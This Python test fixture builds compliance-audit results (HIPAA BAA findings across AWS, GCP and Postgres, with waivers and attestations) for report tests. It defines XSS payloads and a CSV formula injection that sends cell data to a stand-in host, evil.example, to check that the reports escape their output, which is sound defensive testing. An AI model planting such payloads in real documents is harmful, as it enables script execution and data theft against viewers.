"""The fixed RunResult every report test uses: every status, two clouds, an IaC finding, a waiver,
an expiring waiver, an attestation, a listing gap, and cloud-supplied strings that try to break out of HTML, XML,
CSV and JSON."""

from __future__ import annotations

from datetime import UTC, date, datetime

from auditor.core.model.base import Gap, ListingGap, ResourceRef, SourceLocation
from auditor.core.result import (
    AttestationRecord,
    AttestationRef,
    CitationInfo,
    Finding,
    PolicyInfo,
    ProfileInfo,
    PromiseResult,
    Remediation,
    RunResult,
    SafeguardResult,
    WaiverRef,
    summarize,
)
from auditor.core.scope import Scope

XSS_IMG = "<img src=x onerror=alert(1)>"
XSS_SCRIPT = "</script><script>alert(1)</script>"
CSV_FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
ATTACH = "Attach the signed Google Cloud BAA and the Vertex AI data-governance terms."
HOSTILE = [XSS_IMG, XSS_SCRIPT, CSV_FORMULA]

UTC = UTC

#: An attestation that answered a MANUAL finding (ATTESTED), signed by a hostile string. Its
#: document is a URL with a recorded digest, so bundles of this result need no document file
#: (tests/attest covers documents copied into the output directory and bundle).
ATTESTATION = AttestationRef(
    id="ATT-AI",
    answers="policy:MANUAL-AI-001",
    document="https://trust.example.com/no-training.pdf",
    sha256="e" * 64,
    signed_by=XSS_IMG,
    signed_on=date(2026, 3, 1),
    review_by=date(2027, 3, 1),
    state="current",
)


def _ref(
    provider: str,
    account: str,
    region: str | None,
    type_: str,
    id_: str,
    name: str | None = None,
    location: SourceLocation | None = None,
) -> ResourceRef:
    return ResourceRef(
        provider=provider,
        account=account,
        region=region,
        type=type_,
        id=id_,
        name=name,
        location=location,
    )


def build_result() -> RunResult:
    waiver = WaiverRef(
        id="W-7",
        reason="Legacy listener retired in Q1; traffic already moved",
        approver="ciso@example.com",
        expires=date(2026, 12, 1),
        policy="AWS-ELB-001",
        resource="arn:aws:elasticloadbalancing:us-east-1:111111111111:listener/app/legacy/*",
    )
    listener_fail = _ref(
        "aws",
        "111111111111",
        "us-east-1",
        "aws.elbv2.listener",
        "arn:aws:elasticloadbalancing:us-east-1:111111111111:listener/app/web/1/2",
        name=XSS_IMG,
    )
    findings = [
        Finding(
            policy_id="AWS-ELB-001",
            status="FAIL",
            severity="high",
            safeguard="transmission-security",
            citations=["hipaa.164.312.e.1"],
            promises=["encryption-in-transit"],
            resource=listener_fail,
            message=f"Listener {XSS_IMG} allows ['TLSv1.2', 'TLSv1.3']; the BAA promises TLS 1.3.",
            evidence={
                "tls.protocols": ["TLSv1.2", "TLSv1.3"],
                "ssl_policy": "ELBSecurityPolicy-TLS13-1-2-2021-06",
                "tags": {"Name": XSS_SCRIPT, "owner": CSV_FORMULA},
            },
        ),
        Finding(
            policy_id="AWS-ELB-001",
            status="PASS",
            severity="high",
            safeguard="transmission-security",
            citations=["hipaa.164.312.e.1"],
            promises=["encryption-in-transit"],
            resource=_ref(
                "aws",
                "222222222222",
                "eu-west-1",
                "aws.elbv2.listener",
                "arn:aws:elasticloadbalancing:eu-west-1:222222222222:listener/app/api/3/4",
                name="api",
            ),
            message="Listener api allows only TLSv1.3.",
            evidence={"tls.protocols": ["TLSv1.3"]},
        ),
        Finding(
            policy_id="AWS-ELB-001",
            status="WAIVED",
            severity="high",
            safeguard="transmission-security",
            citations=["hipaa.164.312.e.1"],
            promises=["encryption-in-transit"],
            resource=_ref(
                "aws",
                "111111111111",
                "us-east-1",
                "aws.elbv2.listener",
                "arn:aws:elasticloadbalancing:us-east-1:111111111111:listener/app/legacy/9/9",
                name="legacy",
            ),
            message="Listener legacy allows ['TLSv1.2']; waived by W-7.",
            evidence={"tls.protocols": ["TLSv1.2"]},
            waiver=waiver,
        ),
        Finding(
            policy_id="AWS-S3-002",
            status="ERROR",
            severity="critical",
            safeguard="encryption-at-rest",
            citations=["hipaa.164.312.a.2.iv"],
            promises=["encryption-at-rest"],
            resource=_ref(
                "aws",
                "111111111111",
                "us-east-1",
                "aws.s3.bucket",
                "arn:aws:s3:::phi-bucket",
                "phi-bucket",
            ),
            message="Not assessed: encryption could not be read.",
            evidence={},
            gap=Gap(
                operation="s3:GetBucketEncryption",
                error_code="AccessDenied",
                message="User is not authorized to perform s3:GetBucketEncryption",
                fields=("encryption",),
            ),
        ),
        Finding(
            policy_id="GCP-SQL-001",
            status="PASS",
            severity="high",
            safeguard="encryption-at-rest",
            citations=["hipaa.164.312.a.2.iv"],
            promises=["encryption-at-rest"],
            resource=_ref(
                "gcp",
                "phi-prod",
                "us-central1",
                "gcp.sql.instance",
                "projects/phi-prod/instances/db1",
                "db1",
            ),
            message="Cloud SQL instance db1 is encrypted with Google-managed AES-256.",
            evidence={
                "disk_encryption_status": "ENCRYPTED",
                "settings.ip_configuration.ssl_mode": None,
            },
        ),
        Finding(
            policy_id="GCP-SQL-001",
            status="FAIL",
            severity="high",
            safeguard="encryption-at-rest",
            citations=["hipaa.164.312.a.2.iv"],
            promises=["encryption-at-rest"],
            resource=_ref(
                "gcp",
                "phi-prod",
                "us-central1",
                "gcp.sql.instance",
                "google_sql_database_instance.reports",
                "reports",
                location=SourceLocation(file="infra/sql.tf", line_start=12, line_end=30),
            ),
            message="google_sql_database_instance.reports declares no encryption key.",
            evidence={"encryption_key_name": None},
            waiver=WaiverRef(
                id="W-3",
                reason="Reports database moves to CMEK in November",
                approver="dpo@example.com",
                expires=date(2026, 11, 1),
                policy="GCP-SQL-001",
                resource="google_sql_database_instance.reports",
                expired=True,
            ),
        ),
        Finding(
            policy_id="AWS-S3-002",
            status="ERROR",
            severity="critical",
            safeguard="encryption-at-rest",
            citations=["hipaa.164.312.a.2.iv"],
            promises=["encryption-at-rest"],
            resource=_ref("aws", "222222222222", "eu-west-1", "aws.s3.bucket", "*"),
            message="Not assessed: the bucket listing failed in 222222222222/eu-west-1.",
            gap=ListingGap(
                provider="aws",
                account="222222222222",
                region="eu-west-1",
                resource_type="aws.s3.bucket",
                operation="s3:ListBuckets",
                error_code="AccessDenied",
            ),
        ),
        Finding(
            policy_id="AWS-ELB-002",
            status="NOT_APPLICABLE",
            severity="medium",
            safeguard="transmission-security",
            citations=["hipaa.164.312.e.2.ii"],
            promises=["encryption-in-transit"],
            resource=_ref("aws", "222222222222", "eu-west-1", "aws.elbv2.listener", "*"),
            message="0 aws.elbv2.listener in 222222222222/eu-west-1",
        ),
        Finding(
            policy_id="MANUAL-AI-001",
            status="MANUAL",
            severity="high",
            safeguard="ai-no-training",
            citations=["hipaa.164.502.a"],
            promises=["ai-processing"],
            resource=_ref("gcp", "phi-prod", None, "gcp.project", "projects/phi-prod", "phi-prod"),
            message="No control plane shows whether prompts are used for model training.",
            manual_evidence=ATTACH,
        ),
        Finding(
            policy_id="MANUAL-AI-001",
            status="ATTESTED",
            severity="high",
            safeguard="ai-no-training",
            citations=["hipaa.164.502.a"],
            promises=["ai-processing"],
            resource=_ref(
                "gcp",
                "phi-analytics",
                None,
                "gcp.project",
                "projects/phi-analytics",
                "phi-analytics",
            ),
            message="No control plane shows whether prompts are used for model training."
            " Attested by ATT-AI: https://trust.example.com/no-training.pdf.",
            manual_evidence=ATTACH,
            attestation=ATTESTATION,
        ),
    ]
    findings.sort(key=Finding.sort_key)
    policies = {
        "AWS-ELB-001": PolicyInfo(
            id="AWS-ELB-001",
            title="Load balancer listeners accept only the promised TLS versions",
            severity="high",
            safeguard="transmission-security",
            citations=["hipaa.164.312.e.1"],
            resource_type="aws.elbv2.listener",
            remediation=Remediation(
                summary="Attach a TLS 1.3-only security policy.",
                cli=(
                    "aws elbv2 modify-listener --listener-arn ARN"
                    " --ssl-policy ELBSecurityPolicy-TLS13-1-3-2021-06"
                ),
            ),
            references=[
                "https://docs.aws.amazon.com/elasticloadbalancing/latest/application/create-https-listener.html"
            ],
            source="aws/elbv2/AWS-ELB-001.yaml",
        ),
        "AWS-ELB-002": PolicyInfo(
            id="AWS-ELB-002",
            title="Network load balancer TLS listeners use the promised TLS versions",
            severity="medium",
            safeguard="transmission-security",
            citations=["hipaa.164.312.e.2.ii"],
            resource_type="aws.elbv2.listener",
            remediation=Remediation(summary="Use a TLS 1.3 policy on TLS listeners."),
            source="aws/elbv2/AWS-ELB-002.yaml",
        ),
        "AWS-S3-002": PolicyInfo(
            id="AWS-S3-002",
            title="PHI buckets are encrypted at rest with AES-256",
            severity="critical",
            safeguard="encryption-at-rest",
            citations=["hipaa.164.312.a.2.iv"],
            resource_type="aws.s3.bucket",
            remediation=Remediation(summary="Enable default encryption (SSE-S3 or SSE-KMS)."),
            source="aws/s3/AWS-S3-002.yaml",
        ),
        "GCP-SQL-001": PolicyInfo(
            id="GCP-SQL-001",
            title="Cloud SQL instances are encrypted at rest",
            severity="high",
            safeguard="encryption-at-rest",
            citations=["hipaa.164.312.a.2.iv"],
            resource_type="gcp.sql.instance",
            remediation=Remediation(
                summary="Set a CMEK or rely on Google-managed AES-256.",
                terraform='encryption_key_name = "projects/p/locations/l/keyRings/r/cryptoKeys/k"',
            ),
            source="gcp/sql/GCP-SQL-001.yaml",
        ),
        "MANUAL-AI-001": PolicyInfo(
            id="MANUAL-AI-001",
            title="No PHI is used for model training",
            severity="high",
            safeguard="ai-no-training",
            citations=["hipaa.164.502.a"],
            resource_type="gcp.project",
            remediation=Remediation(
                summary="Obtain the provider's written no-training commitment."
            ),
            manual_evidence=ATTACH,
            source="manual/MANUAL-AI-001.yaml",
        ),
    }
    citations = {
        "hipaa.164.312.e.1": CitationInfo(
            key="hipaa.164.312.e.1",
            cfr="164.312(e)(1)",
            title="Transmission security",
            kind="standard",
        ),
        "hipaa.164.312.e.2.ii": CitationInfo(
            key="hipaa.164.312.e.2.ii",
            cfr="164.312(e)(2)(ii)",
            title="Encryption (transmission)",
            kind="addressable",
        ),
        "hipaa.164.312.a.2.iv": CitationInfo(
            key="hipaa.164.312.a.2.iv",
            cfr="164.312(a)(2)(iv)",
            title="Encryption and decryption",
            kind="addressable",
        ),
        "hipaa.164.502.a": CitationInfo(
            key="hipaa.164.502.a",
            cfr="164.502(a)",
            title="Uses and disclosures of PHI - general rules",
            kind="standard",
        ),
    }

    def counts(of: list[Finding]) -> dict[str, int]:
        return {k: v for k, v in summarize(of).items() if v}

    def by(attr: str, value: str) -> list[Finding]:
        if attr == "promise":
            return [f for f in findings if value in f.promises]
        return [f for f in findings if getattr(f, attr) == value]

    promises = [
        PromiseResult(
            id="encryption-at-rest",
            section="3. Security Measures",
            clause=(
                "Encryption at rest: All PHI stored using AES-256 encryption via Google Cloud SQL"
                " and Cloud Storage"
            ),
            safeguards=["encryption-at-rest"],
            parameters={"encryption_algorithm": "AES-256"},
            verdict="FAIL",
            counts=counts(by("promise", "encryption-at-rest")),
            policies=["AWS-S3-002", "GCP-SQL-001"],
        ),
        PromiseResult(
            id="encryption-in-transit",
            section="3. Security Measures",
            clause="Encryption in transit: TLS 1.3 for all data transmission",
            safeguards=["transmission-security"],
            parameters={"min_tls_version": "1.3"},
            verdict="FAIL",
            counts=counts(by("promise", "encryption-in-transit")),
            policies=["AWS-ELB-001", "AWS-ELB-002"],
        ),
        PromiseResult(
            id="ai-processing",
            section="3. Security Measures",
            clause=(
                "AI processing: PHI processed via Google Vertex AI under Google Cloud BAA;"
                " no PHI is used for model training"
            ),
            safeguards=["ai-no-training"],
            parameters={"ai_training_opt_out": True},
            verdict="MANUAL",
            counts=counts(by("promise", "ai-processing")),
            policies=["MANUAL-AI-001"],
            note="Contractual terms cannot be read from a control plane.",
        ),
    ]
    safeguards = [
        SafeguardResult(
            key="encryption-at-rest",
            title="Encryption at rest",
            group="technical",
            description="PHI stores are encrypted with AES-256.",
            citations=["hipaa.164.312.a.2.iv"],
            promised=True,
            verdict="FAIL",
            counts=counts(by("safeguard", "encryption-at-rest")),
            policies=["AWS-S3-002", "GCP-SQL-001"],
        ),
        SafeguardResult(
            key="transmission-security",
            title="Encryption in transit",
            group="technical",
            description="Every PHI connection uses the promised TLS versions.",
            citations=["hipaa.164.312.e.1", "hipaa.164.312.e.2.ii"],
            promised=True,
            verdict="FAIL",
            counts=counts(by("safeguard", "transmission-security")),
            policies=["AWS-ELB-001", "AWS-ELB-002"],
        ),
        SafeguardResult(
            key="ai-no-training",
            title="No model training on PHI",
            group="contractual",
            description="No PHI is used to train models.",
            citations=["hipaa.164.502.a"],
            promised=True,
            verdict="MANUAL",
            counts=counts(by("safeguard", "ai-no-training")),
            policies=["MANUAL-AI-001"],
        ),
        SafeguardResult(
            key="session-management",
            title="Session limits",
            group="technical",
            description="Sessions end after the promised limits.",
            citations=[],
            promised=False,
            verdict=None,
            counts={},
            policies=[],
        ),
    ]
    return RunResult(
        tool_version="0.1.0",
        profile=ProfileInfo(
            id="strict",
            title="Strict (IMEPro-style BAA promises)",
            baa_name="IMEPro, Inc. Business Associate Agreement",
            baa_source="imepro-baa.txt",
            baa_dated="2026-04-08",
        ),
        started_at=datetime(2026, 11, 23, 9, 0, 0, tzinfo=UTC),
        finished_at=datetime(2026, 11, 23, 9, 2, 30, tzinfo=UTC),
        collected_at=datetime(2026, 11, 23, 8, 55, 0, tzinfo=UTC),
        scope=Scope(
            providers=["aws", "gcp"],
            aws_accounts=["111111111111", "222222222222"],
            aws_regions=["eu-west-1", "us-east-1"],
            aws_organization="o-example",
            gcp_parent="organizations/123456789",
            gcp_projects=["phi-prod"],
        ),
        inputs={
            "snapshot": "a" * 64,
            "policies": "b" * 64,
            "profile": "c" * 64,
            "waivers": "d" * 64,
        },
        summary=summarize(findings),
        findings=findings,
        promises=promises,
        safeguards=safeguards,
        policies=policies,
        citations=citations,
        listing_gaps=[
            ListingGap(
                provider="aws",
                account="222222222222",
                region="eu-west-1",
                resource_type="aws.s3.bucket",
                operation="s3:ListBuckets",
                error_code="AccessDenied",
                message=f"denied for {XSS_SCRIPT}",
            )
        ],
        warnings=["Waiver W-3 expired on 2026-11-01; its findings count as FAIL again."],
        waivers_expiring=[waiver],
        attestations=[
            AttestationRecord(**ATTESTATION.model_dump(), scope={"projects": ["phi-analytics"]}),
            AttestationRecord(
                id="ATT-BREACH",
                answers="promise:breach-notification",
                document="https://trust.example.com/breach-procedure.pdf",
                sha256="f" * 64,
                signed_by="Privacy Officer",
                signed_on=date(2025, 1, 10),
                review_by=date(2026, 1, 10),
                state="overdue",
                detail="review was due on 2026-01-10",
            ),
        ],
    )


#: What the branches merged after the PDF was written added to a result (issues 14, 17, 19, 20,
#: 21), for the tests that every report shows it: a wildcard waiver (scope: all), an inline skip
#: in Terraform (no expiry), a selection that left a check out (a partial promise), database
#: endpoints in the scope, a clause's offsets in the BAA file, and an attestation whose review is
#: overdue (a FAIL that names its document).
WILDCARD = WaiverRef(
    id="W-ALL",
    reason="The archive account holds no PHI (data-flow review DF-12)",
    approver="ciso@example.com",
    expires=date(2026, 12, 31),
    policy="AWS-S3-002",
    resource="*",
)
INLINE_SKIP = WaiverRef(
    id="inline:infra/sql.tf:38",
    reason="staging holds synthetic data only",
    approver="inline skip comment at infra/sql.tf:38",
    expires=None,
    policy="GCP-SQL-001",
    resource="google_sql_database_instance.staging",
    kind="inline-skip",
    location="infra/sql.tf:38",
)
OVERDUE = AttestationRef(
    id="ATT-BREACH",
    answers="promise:breach-notification",
    document="https://trust.example.com/breach-procedure.pdf",
    sha256="f" * 64,
    signed_by="Privacy Officer",
    signed_on=date(2025, 1, 10),
    review_by=date(2026, 1, 10),
    state="overdue",
)
LEFT_OUT = "GCP-KMS-002"
CLAUSE_AT = (1204, 1262)
#: a PostgreSQL database as a place (provider postgres, the account is host:port/database)
PG_PLACE = "app-db.c1.us-east-1.rds.amazonaws.com:5432/app"


def build_merged_result() -> RunResult:
    """:func:`build_result` with everything the merged branches record (see the names above)."""
    from auditor.core.result import ClauseOffsets, LeftOutPolicy, SelectionRecord
    from auditor.core.scope import DatabaseEndpoint

    base = build_result()
    findings = [
        *base.findings,
        Finding(
            policy_id="AWS-S3-002",
            status="WAIVED",
            severity="critical",
            safeguard="encryption-at-rest",
            citations=["hipaa.164.312.a.2.iv"],
            promises=["encryption-at-rest"],
            resource=_ref(
                "aws",
                "333333333333",
                "us-east-1",
                "aws.s3.bucket",
                "arn:aws:s3:::archive",
                "archive",
            ),
            message="Bucket archive has no default encryption; waived by W-ALL.",
            evidence={"encryption": None},
            waiver=WILDCARD,
        ),
        Finding(
            policy_id="GCP-SQL-001",
            status="WAIVED",
            severity="high",
            safeguard="encryption-at-rest",
            citations=["hipaa.164.312.a.2.iv"],
            promises=["encryption-at-rest"],
            resource=_ref(
                "gcp",
                "phi-prod",
                "us-central1",
                "gcp.sql.instance",
                "google_sql_database_instance.staging",
                "staging",
                location=SourceLocation(
                    file="infra/sql.tf",
                    line_start=40,
                    line_end=52,
                    address="google_sql_database_instance.staging",
                ),
            ),
            message="google_sql_database_instance.staging declares no encryption key.",
            evidence={"encryption_key_name": None},
            waiver=INLINE_SKIP,
        ),
        Finding(
            policy_id="BAA-BREACH-NOTIFICATION",
            status="FAIL",
            severity="high",
            safeguard="breach-notification",
            citations=["hipaa.164.410"],
            promises=["breach-notification"],
            resource=_ref(
                "baa",
                "organisation",
                None,
                "baa.promise",
                "breach-notification",
                "breach-notification",
            ),
            message="Attestation ATT-BREACH is overdue: "
            "https://trust.example.com/breach-procedure.pdf was due for review on 2026-01-10.",
            manual_evidence="The breach notification procedure, signed.",
            attestation=OVERDUE,
        ),
        Finding(
            policy_id="PG-DB-001",
            status="FAIL",
            severity="high",
            safeguard="tenant-isolation",
            citations=["hipaa.164.312.a.2.iv"],
            resource=_ref("postgres", PG_PLACE, None, "postgres.database", PG_PLACE, "app"),
            message="Tables carrying practice_id without a row-level security policy: "
            "public.visits.",
            evidence={"tenant_tables_without_policy": ["public.visits"]},
        ),
    ]
    findings.sort(key=Finding.sort_key)

    def counts(of: list[Finding]) -> dict[str, int]:
        return {k: v for k, v in summarize(of).items() if v}

    promises = []
    for promise in base.promises:
        mine = [f for f in findings if promise.id in f.promises]
        update: dict[str, object] = {"counts": counts(mine)}
        if promise.id == "encryption-at-rest":
            update |= {
                "left_out": [LEFT_OUT],
                # what judge/selection.py writes for a promise that fails on the checks that ran
                "note": "Fails on the checks that ran; 1 more were left out by the selection "
                f"({LEFT_OUT}).",
            }
        if promise.id == "encryption-in-transit":
            update["clause_offsets"] = ClauseOffsets(start=CLAUSE_AT[0], end=CLAUSE_AT[1])
        promises.append(promise.model_copy(update=update))
    breach = [f for f in findings if "breach-notification" in f.promises]
    promises.append(
        PromiseResult(
            id="breach-notification",
            section="5. Breach Notification",
            clause="Business Associate shall notify Covered Entity of any breach within 30 days",
            safeguards=["breach-notification"],
            parameters={"breach_notification_days": 30},
            verdict="FAIL",
            counts=counts(breach),
            policies=["BAA-BREACH-NOTIFICATION"],
        )
    )
    safeguards = []
    for sg in base.safeguards:
        mine = [f for f in findings if f.safeguard == sg.key]
        update = {"counts": counts(mine)}
        if sg.key == "encryption-at-rest":
            update["left_out"] = [LEFT_OUT]
        safeguards.append(sg.model_copy(update=update))
    safeguards.append(
        SafeguardResult(
            key="breach-notification",
            title="Breach notification",
            group="contractual",
            description="Breaches are reported within the promised window.",
            citations=["hipaa.164.410"],
            promised=True,
            verdict="FAIL",
            counts=counts(breach),
            policies=["BAA-BREACH-NOTIFICATION"],
        )
    )
    safeguards.append(
        SafeguardResult(
            key="tenant-isolation",
            title="Tenant isolation",
            group="technical",
            description="Each practice sees only its own rows.",
            citations=["hipaa.164.312.a.2.iv"],
            promised=False,
            verdict="FAIL",
            counts=counts([f for f in findings if f.safeguard == "tenant-isolation"]),
            policies=["PG-DB-001"],
        )
    )
    policies = dict(base.policies)
    policies["PG-DB-001"] = PolicyInfo(
        id="PG-DB-001",
        title="Every table carrying the tenant key has a row-level security policy",
        severity="high",
        safeguard="tenant-isolation",
        citations=["hipaa.164.312.a.2.iv"],
        resource_type="postgres.database",
        remediation=Remediation(summary="Write the table's tenant policies."),
        source="postgres/database/PG-DB-001.yaml",
    )
    policies["BAA-BREACH-NOTIFICATION"] = PolicyInfo(
        id="BAA-BREACH-NOTIFICATION",
        title="The BAA's breach-notification promise is evidenced",
        severity="high",
        safeguard="breach-notification",
        citations=["hipaa.164.410"],
        resource_type="baa.promise",
        remediation=Remediation(summary="Attach the signed breach notification procedure."),
        manual_evidence="The breach notification procedure, signed.",
        source="profile strict, promise breach-notification",
    )
    citations = dict(base.citations)
    citations["hipaa.164.410"] = CitationInfo(
        key="hipaa.164.410",
        cfr="164.410",
        title="Notification by a business associate",
        kind="standard",
    )
    scope = base.scope.model_copy(
        update={
            "providers": ["aws", "gcp", "postgres"],
            "databases": [
                DatabaseEndpoint(
                    host="app-db.c1.us-east-1.rds.amazonaws.com",
                    port=5432,
                    database="app",
                    platform="aws-rds",
                    instance="aws rds instance app-db in us-east-1",
                ),
                DatabaseEndpoint(host="10.0.0.9", port=5432, database="reports", connected=False),
            ],
        }
    )
    return base.model_copy(
        update={
            "findings": findings,
            "summary": summarize(findings),
            "promises": promises,
            "safeguards": safeguards,
            "policies": policies,
            "citations": citations,
            "scope": scope,
            "selection": SelectionRecord(
                checks=["AWS-*", "GCP-SQL-*", "MANUAL-*", "BAA-*"],
                left_out=[LeftOutPolicy(policy_id=LEFT_OUT, reason="not in --checks")],
            ),
            "waivers_expiring": [*base.waivers_expiring, WILDCARD],
        }
    )


#: the many-PASS result (issue 15): 4 places x 15 PASS findings of one policy, and 3 FAIL
ACCOUNTS = ("444444444444", "555555555555")
REGIONS = ("eu-west-1", "us-east-1")
PER_PLACE = 15  # 4 places x 15 = 60 PASS findings, well over the threshold


def bucket_finding(account: str, region: str, n: int, status: str = "PASS") -> Finding:
    name = f"bucket-{account[-1]}-{region}-{n:02d}"
    return Finding(
        policy_id="AWS-S3-002",
        status=status,  # type: ignore[arg-type]
        severity="critical",
        safeguard="encryption-at-rest",
        citations=["hipaa.164.312.a.2.iv"],
        promises=["encryption-at-rest"],
        resource=ResourceRef(
            provider="aws",
            account=account,
            region=region,
            type="aws.s3.bucket",
            id=f"arn:aws:s3:::{name}",
            name=name,
        ),
        message=f"Bucket {name} is encrypted with aws:kms."
        if status == "PASS"
        else f"Bucket {name} has no default encryption.",
        evidence={"encryption": "aws:kms" if status == "PASS" else None},
    )


def build_many_passes_result() -> RunResult:
    """:func:`build_result` with 60 PASS and 3 FAIL findings of AWS-S3-002 in four places."""
    base = build_result()
    extra = [bucket_finding(a, r, n) for a in ACCOUNTS for r in REGIONS for n in range(PER_PLACE)]
    fails = [bucket_finding(ACCOUNTS[0], REGIONS[0], 90 + n, "FAIL") for n in range(3)]
    findings = sorted([*base.findings, *extra, *fails], key=Finding.sort_key)
    return base.model_copy(update={"findings": findings, "summary": summarize(findings)})
